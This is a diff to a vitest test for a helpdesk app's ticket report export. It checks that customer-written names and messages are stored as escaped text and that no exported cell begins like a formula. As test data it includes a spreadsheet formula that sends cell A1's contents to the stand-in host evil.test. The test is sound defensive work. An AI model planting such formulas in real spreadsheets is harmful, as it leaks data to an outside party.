@@ -1,6 +1,6 @@
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { bearer, createUser, signupCompany, startTestServer, type TestServer } from './harness';
+import { bearer, createUser, settle, signupCompany, startTestServer, type TestServer } from './harness';
 
 let server: TestServer;
 let admin: { token: string; companyId: number; userId: number };
@@ -120,16 +120,25 @@ describe('tickets report', () => {
 });
 
 describe('tickets report spreadsheet cells', () => {
-  it('writes a name that a spreadsheet would run as text (a leading apostrophe), and closed tickets with a closing date cell', async () => {
-    const planted = '=HYPERLINK("http://evil.test/?leak="&A1,"clique")';
-    const contact = await call(admin.token, 'POST', '/contacts', { name: planted, number: '5521977999001' });
-    expect(contact.statusCode, contact.body).toBe(201);
-    const ticket = await call(admin.token, 'POST', '/tickets', { contactId: contact.json().id, status: 'open', userId: admin.userId });
-    expect((await call(admin.token, 'PUT', `/tickets/${ticket.json().id}`, { status: 'closed' })).statusCode).toBe(200);
-    const response = await call(admin.token, 'GET', `/ticket/reports/export?contactId=${contact.json().id}`);
+  it('writes what a customer wrote, and a name a spreadsheet would run, as text (a leading apostrophe); closing dates as date cells', async () => {
+    const sandbox = await call(admin.token, 'POST', '/whatsapp', { name: 'Sandbox relatório', channel: 'sandbox' });
+    expect(sandbox.statusCode, sandbox.body).toBe(201);
+    const name = '@SUM(1+1)';
+    const message = '=HYPERLINK("http://evil.test/?leak="&A1,"clique")';
+    const said = await server.app.inject({ method: 'POST', url: `/sandbox/${sandbox.json().id}/messages`, headers: bearer(sandbox.json().token), payload: { from: '5521977999001', name, body: message } });
+    expect(said.statusCode, said.body).toBe(202);
+    await settle(server);
+    const ticketId = said.json().ticketId as number;
+    expect((await call(admin.token, 'PUT', `/tickets/${ticketId}`, { status: 'closed' })).statusCode).toBe(200);
+    const response = await call(admin.token, 'GET', '/ticket/reports/export');
     const sheet = (await workbookOf(response.rawPayload)).getWorksheet('RelatorioDeAtendimentos')!;
-    expect(sheet.getRow(2).getCell(3).value).toBe(`'${planted}`);
-    expect(sheet.getRow(2).getCell(10).value).toBeInstanceOf(Date);
-    expect(sheet.getRow(2).getCell(10).numFmt).toBe('dd/mm/yyyy hh:mm');
+    const rows = sheet.getSheetValues().filter((row): row is ExcelJS.CellValue[] => Array.isArray(row));
+    const row = rows.find((values) => values[1] === ticketId)!;
+    expect(row[3]).toBe(`'${name}`);
+    expect(row[8]).toBe(`'${message}`);
+    expect(row[10]).toBeInstanceOf(Date);
+    expect(sheet.getRow(rows.indexOf(row) + 1).getCell(10).numFmt).toBe('dd/mm/yyyy hh:mm');
+    // No cell of the sheet starts as a formula would.
+    expect(rows.flat().filter((cell) => typeof cell === 'string' && /^[=+\-@\t\r]/.test(cell))).toEqual([]);
   });
 });
